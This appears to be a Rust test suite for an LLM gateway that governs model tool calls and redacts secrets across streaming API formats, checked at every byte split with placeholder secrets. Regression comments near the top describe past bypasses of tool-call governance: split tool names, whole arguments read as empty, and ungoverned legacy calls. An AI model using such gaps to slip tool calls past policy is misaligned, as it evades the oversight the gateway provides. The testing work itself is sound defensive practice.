        .collect()
}

/// REGRESSION (tool-governance bypasses, each a row): a tool name split across OpenAI Chat
/// deltas was decided on its first piece; arguments that came whole (in the Responses items, in
/// Anthropic's `content_block_start`) were checked as empty; custom tool calls and the legacy
/// `function_call` were not governed at all. At every split.
#[test]
fn tool_calls_in_every_form_are_governed_at_every_split() {
    for row in chat_rows()
        .into_iter()
        .chain(responses_rows())
        .chain(anthropic_rows())
    {
        let p = policies(row.policy);
        let shape = &SHAPES[row.shape];
        for split in splits(row.upstream.len()) {
            let (seen, raw) = run(&p, shape, &row.upstream, &split);
            let at = format!("{}: {split:?}\n{raw}", row.name);
            assert!(seen.well_formed, "{at}");
            assert_eq!(comparable(&seen.calls), comparable(&row.calls), "{at}");
            assert_eq!(
                seen.legacy
                    .as_ref()
                    .map(|c| comparable(std::slice::from_ref(c))),
                row.legacy
                    .as_ref()
                    .map(|c| comparable(std::slice::from_ref(c))),
                "{at}"
            );
            assert_eq!(seen.error.is_some(), row.error, "{at}");
            if row.error {
                assert!(raw.contains("tool_not_allowed"), "{at}");
            }
            for x in row.excludes {
                assert!(!raw.contains(x), "{x:?} reached the client: {at}");
            }
        }
    }
}

const HELD_URL_RULE: &str =
    r#"{"tool": "fetch_url", "pointer": "/url", "url_hosts": ["*.example.com"]}"#;

/// A call held for its argument rules whose arguments pass `limits.max_held_bytes`: under
/// `on_call: strip` it is stripped (the answer goes on without it, the next call keeps its
/// place), otherwise the stream ends with the protocol's error; under the default bound it is
/// decided on its arguments as usual. Each row at every split, in each SSE dialect.
/// REGRESSION: a held call with no text held was not bounded at all (its arguments grew
/// without limit), and past the bound it always ended the stream.
#[test]
fn held_calls_past_the_held_limit_follow_on_call() {
    let long = format!(
        r#"{{"url":"https://docs.example.com/{}"}}"#,
        "a".repeat(400)
    );
    let paris = r#"{"city":"Paris"}"#;
    let upstream_calls = [call("fetch_url", &long), call("get_weather", paris)];
    let policy = |on_call: &str, limit: &str| {
        format!(r#"{{"tools": {{"arguments": [{HELD_URL_RULE}]{on_call}}}{limit}}}"#)
    };
    let small = r#", "limits": {"max_held_bytes": 256}"#;
    let strip = r#", "on_call": "strip""#;
    // (name, policy, calls the client runs, error code)
    let rows: Vec<(&str, String, Vec<Call>, Option<&str>)> = vec![
        (
            "strip: the oversized held call is stripped",
            policy(strip, small),
            vec![call("get_weather", paris)],
            None,
        ),
        (
            "block: the stream ends with the protocol's error",
            policy("", small),
            vec![],
            Some("stream_held_too_large"),
        ),
        (
            "default bound: the call is decided on its arguments",
            policy(strip, ""),
            upstream_calls.to_vec(),
            None,
        ),
    ];
    for shape in &SHAPES[..3] {
        let upstream = (shape.build)("Here you go.", &upstream_calls, 16);
        for (name, policy, calls, error) in &rows {
            let p = policies(policy);
            for split in splits(upstream.len()) {
                let (seen, raw) = run(&p, shape, &upstream, &split);
                let at = format!("{} / {name}: {split:?}\n{raw}", shape.name);
                assert!(seen.well_formed, "{at}");
                assert_eq!(seen.text, "Here you go.", "{at}");
                assert_eq!(comparable(&seen.calls), comparable(calls), "{at}");
                assert_eq!(seen.error.is_some(), error.is_some(), "{at}");
                if let Some(code) = error {
                    assert!(raw.contains(code), "{at}");
                }
                if error.is_some() || calls.len() == 1 {
                    assert!(!raw.contains("fetch_url"), "{at}");
                }
            }
            // Counted and logged as a stripped call under the limit's rule.
            let body = upstream.as_bytes().to_vec();
            let ct = shape.content_type;
            let out = replay(
                Arc::clone(&p),
                &post(shape.path, shape.request),
                &move |_| answer(ct, &body),
                &Split::Every(5),
            );
            let stripped = out
                .audit
                .iter()
                .filter(|e| e.rule_id == "limits.max_held_bytes" && e.outcome.as_str() == "strip")
                .count();
            let expect = usize::from(error.is_none() && calls.len() == 1);
            assert_eq!(stripped, expect, "{} / {name}", shape.name);
        }
    }
}

/// Where each event of an upstream answer of `shape` ends (after its blank line in SSE, its line
/// in NDJSON).
fn event_ends(shape: &Shape, upstream: &str) -> Vec<usize> {
    let sep = if shape.content_type == "text/event-stream" {
        "\n\n"
    } else {
        "\n"
    };
    upstream
        .match_indices(sep)
        .map(|(i, _)| i + sep.len())
        .collect()
}

/// The fast path's pass-through edges, per text shape: every cut of a benign answer reaches the
/// client byte for byte (a cut inside an event leaves bytes in the framer, so the next chunk is
/// not the start of its buffer), and a chunk of whole events that all pass as they came is left
/// to the host as it is (`Continue`, no copy), the last one with end of stream too.
#[test]
fn benign_text_passes_untouched_at_every_split() {
    use llm_warden_engine::exchange::Action;
    use llm_warden_engine::exchange::Exchange;
    use llm_warden_engine::replay::Message;
    let p = policies("{}");
    // Short words of letters no default secret keyword starts with: no lane holds a tail.
    let text = "duo ivy zoo kid ".repeat(10);
    for shape in [&SHAPES[0], &SHAPES[3]] {
        let upstream = (shape.build)(&text, &[], 4);
        for split in splits(upstream.len()) {
            let (_, raw) = run(&p, shape, &upstream, &split);
            assert_eq!(raw, upstream, "{} {split:?}", shape.name);
        }
        // Whole events: the first three (the full path learns the shape), then the rest.
        let ends = event_ends(shape, &upstream);
        let (head, rest) = upstream.as_bytes().split_at(ends[2]);
        let (middle, last) = rest.split_at(ends[ends.len() - 3] - ends[2]);
        let mut ex = Exchange::new(Arc::clone(&p));
        let req: Message = post(shape.path, shape.request);
        let _ = ex.on_request_headers(&req.headers, false);
        let _ = ex.on_request_body(&req.body, true);
        let res = answer(shape.content_type, &[]);
        let _ = ex.on_response_headers(&res.headers, false);
        let mut got = Vec::new();
        for (i, (piece, eos)) in [(head, false), (middle, false), (last, true)]
            .into_iter()
            .enumerate()
        {
            match ex.on_response_body(piece, eos).action {
                Action::Continue => got.extend_from_slice(piece),
                Action::Replace(b) => {
                    assert!(
                        i != 1,
                        "{}: a chunk of passed events was copied",
                        shape.name
                    );
                    got.extend(b);
                }
                a => panic!("{}: {a:?}", shape.name),
            }
        }
        assert_eq!(got, upstream.as_bytes(), "{}", shape.name);
    }
}

/// Prose whose four-character deltas leave a keyword's start held between events (about a third
/// of them): each such hold window closes clean, so a body of these events, all of a learned
/// shape, is what the client gets as it came (`push_same`: the host's bytes pass, no copy).
#[test]
fn held_keyword_starts_leave_a_body_untouched() {
    use llm_warden_engine::response::events::EventStream;
    use llm_warden_engine::response::{ollama, openai_chat, Answer, Ctx};
    let p = policies("{}");
    let text = "The committee reviewed the quarterly report on river sediment. ".repeat(4);
    for shape in [&SHAPES[0], &SHAPES[3]] {
        let upstream = (shape.build)(&text, &[], 4);
        let ends = event_ends(shape, &upstream);
        let mut tried = false;
        // A first chunk of whole events that teaches the shape and leaves nothing held.
        for &cut in &ends[2..ends.len() / 2] {
            let (head, rest) = upstream.as_bytes().split_at(cut);
            let stream = if shape.content_type == "text/event-stream" {
                EventStream::sse(Box::<openai_chat::OpenAiChat>::default(), 1 << 20)
            } else {
                EventStream::ndjson(Box::<ollama::Ollama>::default(), 1 << 20)
            };
            let mut s = Answer::wrap(Box::new(stream));
            let mut audit = Vec::new();
            let mut ctx = Ctx::new(p.default_policy(), true, &mut audit);
            let mut out = Vec::new();
            s.push(&mut ctx, head, &mut out).unwrap();
            if out != head {
                continue;
            }
            let mut out = Vec::new();
            let same = s.push_same(&mut ctx, rest, &mut out).unwrap();
            assert!(
                same && out.is_empty(),
                "{} cut {cut}: {}",
                shape.name,
                out.len()
            );
            tried = true;
        }
        assert!(tried, "{}", shape.name);
    }
}

/// A chat chunk in the envelope OpenAI sends (compact, `logprobs` before `finish_reason`), with
/// `delta` and `finish` as their JSON.
fn chat_event(delta: &str, finish: &str) -> String {
    format!(
        "data: {{\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"m\",\"choices\":[{{\"index\":0,\"delta\":{delta},\"logprobs\":null,\"finish_reason\":{finish}}}]}}\n\n"
    )
}

/// Text events spelling `text` in pieces of `n` characters, each piece escaped as JSON.
fn chat_texts(text: &str, n: usize) -> String {
    let chars: Vec<char> = text.chars().collect();
    chars
        .chunks(n)
        .map(|c| {
            let piece: String = c.iter().collect();
            chat_event(
                &format!("{{\"content\":{}}}", serde_json::json!(piece)),
                "null",
            )
        })
        .collect()
}

/// The chat stream's typed events (`response::openai_chat`: the text events' shape learned from
/// the opener, and the finishing chunk read as bytes) decide as the full path does: every cut of
/// each row gives the client the bytes, the text, the calls and the audit the same stream gives
/// with a comment line before each event (which no typed path reads: every event then takes the
/// full path). The rows are the typed forms' edges: escapes and the secret in the first text
/// event, other key orders and extra fields (the full path), a finish with text still held.
#[test]
fn typed_chat_events_decide_as_the_full_path() {
    let opener = chat_event(
        r#"{"role":"assistant","content":"","refusal":null}"#,
        "null",
    );
    let stop = chat_event("{}", r#""stop""#);
    let done = "data: [DONE]\n\n";
    let text = format!("Here is the key {SECRET} and again {SECRET}. Bye.");
    let plain = "duo ivy zoo kid ".repeat(3);
    let rows: Vec<(&str, String)> = vec![
        ("the secret in the first text event", format!("{opener}{}{stop}{done}", chat_texts(&format!("{SECRET} {text}"), 4))),
        ("benign", format!("{opener}{}{stop}{done}", chat_texts(&plain, 4))),
        ("escapes in the first text event", format!("{opener}{}{}{stop}{done}",
            chat_event(r#"{"content":"a\n\"\u0041\ud83d\ude00\\"}"#, "null"), chat_texts(&text, 3))),
        ("JSON text, its escape split across events", format!("{opener}{}{stop}{done}",
            chat_texts(&format!(r#"{{"lead":"x","note":"{SECRET}\n"}}"#), 2))),
        ("a token ending the text", format!("{opener}{}{stop}{done}", chat_texts(&format!("{plain} {GH}"), 4))),
        ("the secret's start held at the finish", format!("{opener}{}{stop}{done}",
            chat_texts(&format!("{plain} SECRETSTRI"), 4))),
        ("the secret completed by the finishing chunk", format!("{opener}{}{}{done}",
            chat_texts(&format!("{plain} SECRETSTR"), 4), chat_event(r#"{"content":"ING123"}"#, r#""stop""#))),
        ("opener keys in another order", format!("{}{}{stop}{done}",
            chat_event(r#"{"content":"","role":"assistant"}"#, "null"), chat_texts(&text, 4))),
        ("opener with spaces", format!("{}{}{stop}{done}",
            chat_event(r#"{"role": "assistant", "content": ""}"#, "null"), chat_texts(&text, 4))),
        ("opener with the secret in a refusal", format!("{}{}{stop}{done}",
            chat_event(&format!(r#"{{"role":"assistant","content":"","refusal":"{SECRET}"}}"#), "null"), chat_texts(&plain, 4))),
        ("opener with two deltas", format!("{}{}{stop}{done}",
            chat_event(r#"{"role":"assistant","content":""},"delta":{"content":""}"#, "null"), chat_texts(&text, 4))),
        ("opener whose delta holds an object", format!("{}{}{stop}{done}",
            chat_event(r#"{"role":"assistant","content":"","audio":{"id":"a"}}"#, "null"), chat_texts(&text, 4))),
        ("opener with its content twice, the last empty", format!("{}{}{stop}{done}",
            chat_event(r#"{"role":"assistant","content":"Hi ","content":""}"#, "null"),
            chat_texts(&text, 4).replace(r#""},"logprobs""#, r#"","content":""},"logprobs""#))),
        ("opener with its content twice, the first empty", format!("{}{}{stop}{done}",
            chat_event(r#"{"role":"assistant","content":"","content":"Hi "}"#, "null"), chat_texts(&text, 4))),
        ("text with a role after the opener", format!("{opener}{}{}{stop}{done}",
            chat_event(r#"{"role":"assistant","content":"Hi "}"#, "null"), chat_texts(&text, 4))),
        ("finish with the secret in an extra field", format!("{opener}{}{}{done}", chat_texts(&plain, 4),
            chat_event("{}", &format!(r#""stop","x_note":"{SECRET}""#)))),
        ("finish reason escaped", format!("{opener}{}{}{done}", chat_texts(&text, 4),
            chat_event("{}", r#""st\u006fp""#))),
        ("finish reason twice", format!("{opener}{}{}{}{done}", chat_texts(&text, 4),
            chat_event("{}", r#""stop","finish_reason":null"#), chat_texts(&text, 5))),
        ("finish reason length, then text after it", format!("{opener}{}{}{}{stop}{done}", chat_texts(&text, 4),
            chat_event("{}", r#""length""#), chat_texts(&text, 4))),
        ("finish of another choice", format!("{opener}{}{}{stop}{done}", chat_texts(&text, 4),
            chat_event("{}", r#""stop""#).replace(r#""index":0"#, r#""index":1"#))),
        ("finish with an empty text", format!("{opener}{}{}{done}", chat_texts(&text, 4),
            chat_event(r#"{"content":""}"#, r#""stop""#))),
        ("a tool call, then the finish", format!("{opener}{}{}{}{done}", chat_texts(&text, 4),
            chat_event(r#"{"tool_calls":[{"index":0,"id":"call_0","type":"function","function":{"name":"note","arguments":"{}"}}]}"#, "null"),
            chat_event("{}", r#""tool_calls""#))),
        ("usage after the finish", format!("{opener}{}{stop}{}{done}", chat_texts(&text, 4),
            "data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"m\",\"choices\":[],\"usage\":{\"total_tokens\":3}}\n\n")),
    ];
    same_as_full_path(
        &SHAPES[0],
        &rows,
        &|s| s.replace("data: {", ": c\ndata: {"),
        ": c\n",
    );
}

/// A secret confirmed only when its choice finishes (a token ending the text) is audited at its
/// text's location, in every lane `flush_choice` finishes: the location is written out only
/// then, and must read as it does for text the detector confirms mid-stream.
#[test]
fn texts_finished_with_their_choice_are_audited_where_they_were() {
    let p = policies(r#"{"secrets": {"literals": ["SECRETSTRING123"]}}"#);
    let text = format!("{} {GH}", "duo ivy zoo kid ".repeat(2));
    let chat_rows = [
        ("content", 0, "choices[0].delta.content"),
        ("reasoning_content", 0, "choices[0].delta.reasoning_content"),
        ("reasoning", 0, "choices[0].delta.reasoning"),
        ("content", 1, "choices[1].delta.content"),
    ];
    let mut rows: Vec<(&Shape, String, &str)> = chat_rows
        .iter()
        .map(|(key, index, location)| {
            let chars: Vec<char> = text.chars().collect();
            let texts: String = chars
                .chunks(4)
                .map(|c| {
                    let piece: String = c.iter().collect();
                    chat_event(
                        &format!("{{\"{key}\":{}}}", serde_json::json!(piece)),
                        "null",
                    )
                })
                .collect();
            let stream = format!("{texts}{}data: [DONE]\n\n", chat_event("{}", r#""stop""#))
                .replace(r#""index":0"#, &format!(r#""index":{index}"#));
            (&SHAPES[0], stream, *location)
        })
        .collect();
    rows.push((
        &TEXT_SHAPES[0],
        openai_completions_sse(&text, &[], 4),
        "choices[0].text",
    ));
    for (shape, upstream, location) in &rows {
        for split in [Split::Every(1), Split::Every(7), Split::Every(4096)] {
            let body = upstream.as_bytes().to_vec();
            let out = replay(
                Arc::clone(&p),
                &post(shape.path, shape.request),
                &move |_| answer(shape.content_type, &body),
                &split,
            );
            let found: Vec<&str> = out
                .audit
                .iter()
                .filter(|e| e.match_hash.len() == 16)
                .map(|e| e.location.as_str())
                .collect();
            assert_eq!(found, [*location], "{location} {split:?}");
        }
    }
}

/// Each row's stream of `shape` at every cut gives the client what its twin `full(row)` gives
/// with `mark` (what `full` added at the start of lines) removed, the same text and calls, and the same audit, under
/// an enforcing and a monitoring policy; nothing of the secret gets out when enforcing.
fn same_as_full_path(
    shape: &Shape,
    rows: &[(&str, String)],
    full: &dyn Fn(&str) -> String,
    mark: &str,
) {
    for mode in ["enforce", "monitor"] {
        let p = policies(&format!(
            r#"{{"mode": "{mode}", "secrets": {{"literals": ["{SECRET}"]}}}}"#
        ));
        same_in_mode(&p, mode, shape, rows, full, mark);
    }
}

fn same_in_mode(
    p: &Arc<Policies>,
    mode: &str,
    shape: &Shape,
    rows: &[(&str, String)],
    full: &dyn Fn(&str) -> String,
    mark: &str,
) {
    for (name, upstream) in rows {
        let twin = full(upstream);
        for split in splits(upstream.len()) {
            let read = |body: &str| {
                let out = replay(
                    Arc::clone(p),
                    &post(shape.path, shape.request),
                    &move |_| answer(shape.content_type, body.as_bytes()),
                    &split,
                );
                let raw = String::from_utf8(out.client_response.body).unwrap();
                // The mark starts a line: the body's first, or one after a line end.
                let raw = format!("\n{raw}").replace(&format!("\n{mark}"), "\n");
                (
                    raw.strip_prefix('\n').unwrap_or(&raw).to_string(),
                    out.audit,
                )
            };
            let (typed, typed_audit) = read(upstream);
            let (want, want_audit) = read(&twin);
            let name = format!("{name} ({mode}) {split:?}");
            assert!(
                mode != "enforce" || !typed.contains(SECRET),
                "{name}: leaked"
            );
            assert_eq!(typed, want, "{name}");
            assert_eq!((shape.read)(&typed), (shape.read)(&want), "{name}");
            assert_eq!(typed_audit, want_audit, "{name}");
        }
    }
}

/// Ollama's typed `done` line (`response::ollama`, read as bytes when no lane holds text)
/// decides as the full path does, as `typed_chat_events_decide_as_the_full_path` checks for
/// chat: the twin starts every line with a space (no typed path reads it). The rows are its
/// edges: other fields, escapes, keys twice, text held at the end.
#[test]
fn typed_ollama_done_lines_decide_as_the_full_path() {
    let line = |content: &str, rest: &str| {
        format!(
            "{{\"model\":\"m\",\"created_at\":\"t\",\"message\":{{\"role\":\"assistant\",\"content\":{}}},{rest}}}\n",
            serde_json::json!(content)
        )
    };
    let texts = |text: &str| -> String {
        let chars: Vec<char> = text.chars().collect();
        chars
            .chunks(4)
            .map(|c| line(&c.iter().collect::<String>(), "\"done\":false"))
            .collect()
    };
    let done = r#""done":true,"done_reason":"stop","total_duration":1000,"eval_count":0"#;
    let text = format!("Here is the key {SECRET} and again {SECRET}. Bye.");
    let plain = "duo ivy zoo kid ".repeat(3);
    let generate = |t: &str| {
        texts(t)
            .replace(
                r#""message":{"role":"assistant","content":"#,
                r#""response":"#,
            )
            .replace("},\"done\"", ",\"done\"")
    };
    let rows: Vec<(&str, String)> = vec![
        ("benign", format!("{}{}", texts(&plain), line("", done))),
        ("the secret", format!("{}{}", texts(&text), line("", done))),
        (
            "the secret's start held at the end",
            format!(
                "{}{}",
                texts(&format!("{plain} SECRETSTRI")),
                line("", done)
            ),
        ),
        (
            "the secret completed by the done line",
            format!(
                "{}{}",
                texts(&format!("{plain} SECRETSTR")),
                line("ING123", done)
            ),
        ),
        (
            "generate lines",
            format!(
                "{}{{\"model\":\"m\",\"created_at\":\"t\",\"response\":\"\",{done}}}\n",
                generate(&text)
            ),
        ),
        (
            "done with the secret in another field",
            format!(
                "{}{}",
                texts(&plain),
                line("", &format!(r#"{done},"x_note":"{SECRET}""#))
            ),
        ),
        (
            "done with another identifier",
            format!(
                "{}{}",
                texts(&plain),
                line("", &format!(r#"{done},"system_fingerprint":"fp_1""#))
            ),
        ),
        (
            "done twice in the line",
            format!(
                "{}{}{}",
                texts(&plain),
                line("", r#""done":true,"done":false"#),
                texts(&text)
            ),
        ),
        (
            "done without a message",
            format!("{}{{\"model\":\"m\",{done}}}\n", texts(&text)),
        ),
        (
            "done with logprobs",
            format!(
                "{}{}",
                texts(&text),
                line(
                    "",
                    &format!(r#"{done},"logprobs":[{{"token":"a","logprob":-0.1}}]"#)
                )
            ),
        ),
        (
            "done with an escaped identifier",
            format!(
                "{}{}",
                texts(&text),
                line("", r#""done":true,"done_reason":"st\u006fp""#)
            ),
        ),
        (
            "done with spaces",
            format!("{}{}", texts(&text), line("", r#""done": true"#)),
        ),
        (
            "done with a number that is not an integer",
            format!(
                "{}{}",
                texts(&text),
                line("", r#""done":true,"eval_duration":1.5"#)
            ),
        ),
        (
            "done with a leading zero",
            format!(
                "{}{}",
                texts(&text),
                line("", r#""done":true,"eval_duration":01"#)
            ),
        ),
        (
            "done with thinking",
            format!(
                "{}{}",
                texts(&text),
                line("", r#""done":true,"thinking":"""#)
            ),
        ),
        (
            "text after done",
            format!("{}{}{}", texts(&plain), line("", done), texts(&text)),
        ),
        // A token the detector confirms only at the text's end (monitoring: no lane holds).
        (
            "a token ending the text",
            format!("{}{}", texts(&format!("{plain} {GH}")), line("", done)),
        ),
    ];
    same_as_full_path(
        &SHAPES[3],
        &rows,
        &|s| s.lines().map(|l| format!(" {l}\n")).collect(),
        " ",
    );
}
